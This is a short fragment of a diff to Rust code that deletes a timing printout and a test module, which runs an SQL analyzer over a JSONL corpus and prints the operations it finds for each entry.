-            eprintln!("{total:>8.2} us total {parse:>8.2} parse_any {scan:>6.2} scans  {}", q.chars().take(60).collect::<String>());
-        }
-    }
-}
-#[cfg(test)]
-mod corpus_probe {
-    #[test]
-    fn probe() {
-        let Ok(path) = std::env::var("CORPUS") else { return };
-        let text = std::fs::read_to_string(path).unwrap();
-        for line in text.lines() {
-            let v: serde_json::Value = serde_json::from_str(line).unwrap();
-            if v["lang"] != "sql" { continue; }
-            let code = v["code"].as_str().unwrap();
-            let ctx = crate::Context::new("/w/p", "/w/p", "/home/u");
-            let ops = crate::analyze(crate::Lang::Sql, code, &ctx).ops;
-            println!("## {} {} | {}", v["label"], v["category"], code.replace('\n', "\\n"));
-            for o in ops { println!("   {}", serde_json::to_string(&o).unwrap()); }
-        }
     }
 }
